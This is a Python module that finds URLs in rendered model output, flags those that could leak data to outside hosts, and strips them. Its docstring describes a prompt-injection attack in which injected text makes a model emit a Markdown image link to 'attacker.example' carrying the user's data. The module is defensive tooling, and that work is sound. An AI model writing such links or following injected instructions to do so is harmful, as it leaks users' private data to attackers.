"""Data exfiltration through rendered output: an injected instruction makes the model write
`![](https://attacker.example/?q=<the user's data>)`; the user's Markdown renderer fetches the image and the
data leaves, with no click. Links leak the same way when clicked.

`find_urls(text)` lists every URL a renderer would load or link: Markdown images and links (inline,
reference definitions, autolinks), raw HTML `src`/`href`/`srcset`/`action`/CSS `url()`, and bare URLs.
`exfiltration_risks` keeps those that leave the allowed hosts, marking images (fetched automatically),
URLs carrying a query or long path, and URLs holding a value the caller says must not leave (canary,
secrets from the prompt). `strip` replaces risky images and links by their text.
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

_MD_IMAGE = re.compile(r"!\[([^\]]{0,500})\]\(\s*<?([^)\s>]{1,4000})>?(?:\s+[\"'(][^)]{0,200}[\"')])?\s*\)")
_MD_LINK = re.compile(r"(?<!!)\[([^\]]{0,500})\]\(\s*<?([^)\s>]{1,4000})>?(?:\s+[\"'(][^)]{0,200}[\"')])?\s*\)")
_MD_REF = re.compile(r"^\s{0,3}\[([^\]]{1,200})\]:\s*<?(\S{1,4000}?)>?(?:\s+.*)?$", re.M)
_AUTOLINK = re.compile(r"<((?:https?|ftp|data|javascript):[^>\s]{1,4000})>", re.I)
_HTML_URL = re.compile(r"\b(src|href|srcset|action|formaction|poster|background|data)\s*=\s*[\"']?([^\"'\s>]{1,4000})",
                       re.I)
_CSS_URL = re.compile(r"url\(\s*[\"']?([^\"')\s]{1,4000})", re.I)
_BARE = re.compile(r"(?<![(<\"'=])\b(https?://[^\s<>\"')\]]{1,4000})", re.I)


@dataclass(frozen=True)
class FoundUrl:
    url: str
    kind: str  # image, link, reference, autolink, html-src, html-href, css, bare
    span: tuple[int, int]
    text: str = ""

    @property
    def auto_loaded(self) -> bool:
        return self.kind in ("image", "html-src", "css", "reference")


@dataclass(frozen=True)
class Risk:
    url: FoundUrl
    reasons: tuple[str, ...]


def find_urls(text: str) -> list[FoundUrl]:
    found: list[FoundUrl] = []
    for m in _MD_IMAGE.finditer(text):
        found.append(FoundUrl(m.group(2), "image", m.span(), m.group(1)))
    for m in _MD_LINK.finditer(text):
        found.append(FoundUrl(m.group(2), "link", m.span(), m.group(1)))
    for m in _MD_REF.finditer(text):
        found.append(FoundUrl(m.group(2), "reference", m.span(), m.group(1)))
    for m in _AUTOLINK.finditer(text):
        found.append(FoundUrl(m.group(1), "autolink", m.span(), m.group(1)))
    for m in _HTML_URL.finditer(text):
        kind = "html-href" if m.group(1).lower() in ("href", "action", "formaction") else "html-src"
        found.append(FoundUrl(m.group(2), kind, m.span(), ""))
    for m in _CSS_URL.finditer(text):
        found.append(FoundUrl(m.group(1), "css", m.span(), ""))
    covered = [f.span for f in found]
    for m in _BARE.finditer(text):
        if not any(a <= m.start() < b for a, b in covered):
            found.append(FoundUrl(m.group(1), "bare", m.span(), m.group(1)))
    return found


def _host(url: str) -> str:
    try:
        return (urllib.parse.urlsplit(url.strip()).hostname or "").lower().rstrip(".")
    except ValueError:
        return ""


def _allowed(host: str, allowed_hosts: Sequence[str]) -> bool:
    return any(host == h or host.endswith("." + h) for h in allowed_hosts)


def exfiltration_risks(text: str, allowed_hosts: Sequence[str] = (), secrets: Iterable[str] = (),
                       links: bool = True) -> list[Risk]:
    """URLs in `text` that could carry data out (see the module docstring)."""
    secrets = [s for s in secrets if len(s) >= 6]
    risks = []
    for found in find_urls(text):
        url = urllib.parse.unquote(found.url.strip())
        scheme = url.split(":", 1)[0].lower() if ":" in url else ""
        reasons = []
        if scheme in ("javascript", "vbscript", "data") and not url.lower().startswith("data:image/"):
            reasons.append(f"a {scheme}: URL")
        host = _host(url)
        if scheme in ("http", "https", "ftp", "") and host and not _allowed(host, allowed_hosts):
            parts = urllib.parse.urlsplit(url)
            if found.auto_loaded:
                reasons.append(f"an image or resource from {host} is fetched without a click")
            if parts.query or len(parts.path) > 80:
                reasons.append(f"the URL to {host} carries data in its " + ("query" if parts.query else "path"))
        leaked = [s for s in secrets if s.lower() in url.lower()]
        if leaked:
            reasons.append("the URL holds data that must not leave (a canary or a secret from the conversation)")
        if reasons and (found.auto_loaded or links or leaked):
            risks.append(Risk(found, tuple(reasons)))
    return risks


def strip(text: str, risks: Sequence[Risk]) -> str:
    """`text` with each risky image or link replaced by its text and a note of what was removed."""
    out, last = [], 0
    for risk in sorted(risks, key=lambda r: r.url.span[0]):
        a, b = risk.url.span
        if a < last:
            continue
        host = _host(risk.url.url) or "an address"
        label = risk.url.text if risk.url.kind in ("image", "link") and risk.url.text else ""
        out.append(text[last:a] + (f"{label} " if label else "") + f"[link to {host} removed]")
        last = b
    out.append(text[last:])
    return "".join(out)
